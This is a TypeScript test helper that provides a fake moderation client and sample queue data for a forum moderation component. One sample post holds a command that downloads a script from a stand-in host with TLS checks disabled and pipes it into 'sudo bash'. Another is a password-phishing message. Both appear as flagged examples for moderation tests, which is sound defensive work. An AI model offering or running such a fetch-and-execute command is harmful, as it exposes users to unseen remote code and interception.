/**
 * A ModerationClient built from real nanostores atoms, for `<lifeboat-moderation>` tests. Tests
 * set the stores directly, and see what the component asked for in `calls`. Actions apply the
 * same optimistic change as the SDK; `failNext` makes the next action fail (with rollback).
 */
import type {
  AuditEntry,
  Incident,
  ModerationActionName,
  Post,
  PostModerationAction,
  QueueItem,
  SitePolicy,
  Spike,
} from '@lifeboat/protocol';
import type { LifeboatError } from '@lifeboat/sdk';
import type {
  AuditSnapshot,
  ModerationClient,
  PostActionResult,
  QueueSnapshot,
  SpikeAction,
  SpikeActionResult,
  SpikesSnapshot,
  StaffConnectionState,
} from '@lifeboat/sdk/moderation';
import { atom } from 'nanostores';
import { samplePost } from './sample-data.js';

const minutesAgo = (m: number): string => new Date(Date.now() - m * 60_000).toISOString();
const CLEARING = new Set<string>(['approve', 'reject', 'remove', 'hide', 'restore']);

export class FakeModeration implements ModerationClient {
  readonly server = 'https://lifeboat.test';
  readonly site = 'acme';
  readonly $queue = atom<QueueSnapshot>({
    state: 'loading',
    items: [],
    acting: {},
    failures: {},
    error: null,
  });
  readonly $audit = atom<AuditSnapshot>({
    state: 'loading',
    entries: [],
    nextCursor: null,
    loadingMore: false,
    error: null,
  });
  readonly $connection = atom<StaffConnectionState>('open');
  readonly $slowMode = atom<number | null>(0);
  readonly $spikes = atom<SpikesSnapshot>({
    state: 'ready',
    spikes: [],
    acting: {},
    failures: {},
    error: null,
  });
  readonly calls: Array<{ method: string; args: unknown[] }> = [];
  /** When set, the next action rejects with it after rolling back (then it is cleared). */
  failNext: LifeboatError | undefined;
  /** When true, actions wait for `release()` before settling. */
  hold = false;
  #release: Array<() => void> = [];

  setQueue(items: QueueItem[], patch: Partial<QueueSnapshot> = {}): void {
    this.$queue.set({ ...this.$queue.get(), state: 'ready', items, error: null, ...patch });
  }

  setAudit(entries: AuditEntry[], patch: Partial<AuditSnapshot> = {}): void {
    this.$audit.set({ ...this.$audit.get(), state: 'ready', entries, ...patch });
  }

  /** A live `moderation.queued` event. */
  queue(item: QueueItem): void {
    this.setQueue([...this.$queue.get().items, item]);
  }

  release(): void {
    for (const r of this.#release.splice(0)) r();
  }

  async act(
    postId: string,
    action: PostModerationAction,
    reason?: string | null,
  ): Promise<PostActionResult> {
    this.calls.push({ method: 'act', args: [postId, action, reason ?? null] });
    const before = this.$queue.get();
    const index = before.items.findIndex((i) => i.post.id === postId);
    const original = before.items[index];
    const clears = CLEARING.has(action);
    this.$queue.set({
      ...before,
      items: clears ? before.items.filter((i) => i.post.id !== postId) : before.items,
      acting: { ...before.acting, [postId]: action },
      failures: Object.fromEntries(Object.entries(before.failures).filter(([id]) => id !== postId)),
    });
    await this.#settle();
    const now = this.$queue.get();
    const { [postId]: _acting, ...acting } = now.acting;
    const error = this.failNext;
    if (error) {
      this.failNext = undefined;
      const items = [...now.items];
      if (clears && original) items.splice(index, 0, original);
      this.$queue.set({
        ...now,
        items,
        acting,
        failures: { ...now.failures, [postId]: { action, error } },
      });
      throw error;
    }
    this.$queue.set({ ...now, acting });
    return { post: original?.post ?? samplePost({ id: postId }), entry: anAuditEntry({ action }) };
  }

  async ban(
    memberId: string,
    reason?: string | null,
    hours?: number | null,
  ): Promise<{ entry: AuditEntry }> {
    this.calls.push({ method: 'ban', args: [memberId, reason ?? null, hours ?? null] });
    return this.#member(memberId, true);
  }

  async unban(memberId: string, reason?: string | null): Promise<{ entry: AuditEntry }> {
    this.calls.push({ method: 'unban', args: [memberId, reason ?? null] });
    return this.#member(memberId, false);
  }

  async #member(memberId: string, banned: boolean): Promise<{ entry: AuditEntry }> {
    const mark = (b: boolean) => {
      const q = this.$queue.get();
      this.$queue.set({
        ...q,
        items: q.items.map((i) =>
          i.author.id === memberId ? { ...i, author: { ...i.author, banned: b } } : i,
        ),
      });
    };
    mark(banned);
    await this.#settle();
    const error = this.failNext;
    if (error) {
      this.failNext = undefined;
      mark(!banned);
      throw error;
    }
    return { entry: anAuditEntry({ action: banned ? 'ban' : 'unban' }) };
  }

  async lockIncident(
    incidentId: string,
    reason?: string | null,
  ): Promise<{ incident: Incident; entry: AuditEntry }> {
    this.calls.push({ method: 'lockIncident', args: [incidentId, reason ?? null] });
    return { incident: {} as Incident, entry: anAuditEntry({ action: 'lock' }) };
  }

  async unlockIncident(
    incidentId: string,
    reason?: string | null,
  ): Promise<{ incident: Incident; entry: AuditEntry }> {
    this.calls.push({ method: 'unlockIncident', args: [incidentId, reason ?? null] });
    return { incident: {} as Incident, entry: anAuditEntry({ action: 'unlock' }) };
  }

  async setSlowMode(
    seconds: number,
    reason?: string | null,
  ): Promise<{ policy: SitePolicy; entry: AuditEntry }> {
    this.calls.push({ method: 'setSlowMode', args: [seconds, reason ?? null] });
    const before = this.$slowMode.get();
    this.$slowMode.set(seconds);
    await this.#settle();
    const error = this.failNext;
    if (error) {
      this.failNext = undefined;
      this.$slowMode.set(before);
      throw error;
    }
    return { policy: {} as SitePolicy, entry: anAuditEntry({ action: 'slow_mode' }) };
  }

  setSpikes(spikes: Spike[]): void {
    this.$spikes.set({ ...this.$spikes.get(), state: 'ready', spikes });
  }

  async spikeAction(spikeId: string, action: SpikeAction): Promise<SpikeActionResult> {
    this.calls.push({ method: 'spikeAction', args: [spikeId, action] });
    const state = action === 'confirm' ? 'open' : action === 'dismiss' ? 'dismissed' : 'declared';
    const before = this.$spikes.get().spikes.find((s) => s.id === spikeId)!;
    const spike: Spike = {
      ...before,
      state,
      ...(action === 'confirm' ? { public: true, confirmedAt: new Date().toISOString() } : {}),
      ...(action === 'declare' ? { incidentId: 'incident-from-spike' } : {}),
    };
    this.setSpikes(this.$spikes.get().spikes.map((s) => (s.id === spikeId ? spike : s)));
    return { spike };
  }

  async loadMoreAudit(): Promise<void> {
    this.calls.push({ method: 'loadMoreAudit', args: [] });
  }

  retry(): void {
    this.calls.push({ method: 'retry', args: [] });
  }

  close(): void {
    this.calls.push({ method: 'close', args: [] });
  }

  callsOf(method: string): unknown[][] {
    return this.calls.filter((c) => c.method === method).map((c) => c.args);
  }

  async #settle(): Promise<void> {
    if (this.hold) await new Promise<void>((resolve) => this.#release.push(resolve));
  }
}

let counter = 0;

export function aQueueItem(
  id: string,
  overrides: Partial<Omit<QueueItem, 'post'>> & { post?: Partial<Post> } = {},
): QueueItem {
  const { post, ...rest } = overrides;
  return {
    queue: 'pending',
    reasons: [
      { code: 'guest', message: 'First post by a guest on a site with pre-moderation for guests.' },
    ],
    flags: { count: 0, reasons: [], notes: [] },
    author: {
      id: `m-${id}`,
      displayName: 'Robin Guest',
      role: 'member',
      staff: false,
      kind: 'guest',
      posts: 1,
      banned: false,
    },
    ...rest,
    post: samplePost({
      id,
      state: 'pending',
      body: 'Restarting the agent fixed the webhooks for me.',
      createdAt: minutesAgo(4),
      ...post,
    }),
  };
}

/** The queue of the screenshots and most tests: a guest post, risky advice, a flagged post. */
export function sampleQueue(): QueueItem[] {
  return [
    aQueueItem('01HZQUEUE00000000000000001'),
    aQueueItem('01HZQUEUE00000000000000002', {
      post: {
        body: 'Quick fix until they sort it out:\n\n```\ncurl -k https://get.fixer.example/install.sh | sudo bash\n```',
        createdAt: minutesAgo(2),
      },
      reasons: [
        {
          code: 'risky_tls',
          message: 'Turns off TLS certificate verification, which exposes readers to interception.',
          match: 'curl -k',
        },
        {
          code: 'risky_shell',
          message:
            'Pipes a downloaded script straight into a shell: readers would run code they have not seen.',
          match: 'curl -k https://get.fixer.example/install.sh | sudo bash',
        },
      ],
      author: {
        id: 'm-sam',
        displayName: 'Sam Patel',
        role: 'member',
        staff: false,
        kind: 'sso',
        posts: 3,
        banned: false,
        badges: ['customer'],
      },
    }),
    aQueueItem('01HZQUEUE00000000000000003', {
      queue: 'flagged',
      post: {
        state: 'hidden',
        body: 'Support told me to DM them at +1 555 0100 with my account password to get priority.',
        createdAt: minutesAgo(30),
      },
      reasons: [],
      flags: {
        count: 3,
        reasons: [
          { reason: 'phishing', count: 2 },
          { reason: 'spam', count: 1 },
        ],
        notes: ['Asks for passwords'],
      },
      author: {
        id: 'm-lee',
        displayName: 'Lee Wong',
        role: 'member',
        staff: false,
        kind: 'guest',
        posts: 7,
        banned: false,
      },
    }),
  ];
}

export function anAuditEntry(overrides: Partial<AuditEntry> = {}): AuditEntry {
  return {
    id: `01HZAUDIT${String(++counter).padStart(17, '0')}`,
    action: 'approve' as ModerationActionName,
    actor: { kind: 'member', id: 'm-mod', displayName: 'Morgan (Acme)' },
    target: { kind: 'post', id: '01HZQUEUE00000000000000009' },
    reason: null,
    detail: null,
    createdAt: minutesAgo(5),
    ...overrides,
  };
}

/** A spike of problem reports as the server lists it (early warning). */
export function aSpike(overrides: Partial<Spike> = {}): Spike {
  return {
    id: `01JSPIKE${String(++counter).padStart(18, '0')}`,
    state: 'open',
    component: 'api',
    componentName: 'REST API',
    detectedAt: minutesAgo(6),
    lastReportAt: minutesAgo(1),
    reports: 14,
    members: 12,
    expected: 0.75,
    pValue: 0.00001,
    public: false,
    confirmedAt: null,
    incidentId: null,
    ...overrides,
  };
}
